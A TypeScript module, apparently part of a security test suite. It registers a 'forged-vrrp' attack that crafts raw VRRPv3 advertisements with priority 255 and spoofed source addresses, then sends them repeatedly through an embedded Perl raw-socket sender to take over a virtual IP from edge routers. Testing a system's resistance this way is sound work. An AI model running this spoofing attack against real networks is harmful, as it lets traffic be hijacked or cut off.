import { networkInterfaces } from 'node:os';
import { execa } from 'execa';
import { register } from '../attack.ts';

/** VRRP's group (RFC 5798, 5.1.1.2). */
const GROUP = '224.0.0.18';

/** Sends whole IP packets, each an argument `<address>/<hex>`, ten times a second for five seconds. Node has no raw sockets. */
const SENDER = `use Socket;
socket(my $s, PF_INET, SOCK_RAW, 255) or die "no raw socket: $!";
setsockopt($s, 0, 3, 1) or die "headers of one's own: $!";
for (my $n = 0; $n < 50; $n++) {
  for (@ARGV) { my ($to, $packet) = split "/"; send($s, pack("H*", $packet), 0, pack_sockaddr_in(0, inet_aton($to))); }
  select(undef, undef, undef, 0.1);
}`;

const bytesOf = (address: string): number[] => address.split('.').map(Number);

/** A VRRPv3 advertisement (RFC 5798, 5.1) with the checksum over its pseudo-header, behind an IP header with TTL 255. */
function packet(source: string, to: string, vrid: number, priority: number, vip: string): string {
  const body = [0x31, vrid, priority, 1, 0, 30, 0, 0, ...bytesOf(vip)];
  const all = [...bytesOf(source), ...bytesOf(to), 0, 112, 0, body.length, ...body];
  let sum = 0;
  for (let at = 0; at < all.length; at += 2) sum += (all[at] << 8) | all[at + 1];
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  body.splice(6, 2, (~sum & 0xffff) >> 8, ~sum & 0xff);
  // The kernel adds identification and checksum of the header.
  const header = [
    0x45,
    0,
    0,
    20 + body.length,
    0,
    0,
    0,
    0,
    255,
    112,
    0,
    0,
    ...bytesOf(source),
    ...bytesOf(to),
  ];
  return Buffer.from([...header, ...body]).toString('hex');
}

register({
  name: 'forged-vrrp',
  tries:
    'tells the edges by VRRP, in its own name and in that of each of them, that somebody else has the VIP (NET_RAW is Docker’s default)',
  as: ['nobody'],
  seconds: 10,
  async run(attacker) {
    const { vip, vrid, neighbours, edgeFronts } = attacker.target;
    const own = Object.values(networkInterfaces())
      .flat()
      .flatMap((each) => (each?.family === 'IPv4' && !each.internal ? [each.address] : []));
    const behind = neighbours.filter(({ role }) => role === 'edge').map(({ address }) => address);
    const edges = [...behind, ...edgeFronts];
    const packets = [...edges, GROUP].flatMap((to) =>
      [...own, ...edges.filter((edge) => edge !== to)].map(
        (source) => `${to}/${packet(source, to, vrid, 255, vip)}`,
      ),
    );
    const { exitCode, stderr } = await execa('perl', ['-e', SENDER, ...packets], {
      reject: false,
      stdin: 'ignore',
    });
    const did = `${packets.length} advertisements of priority 255, 50 times`;
    return { did: exitCode === 0 ? did : String(stderr), got: [] };
  },
});
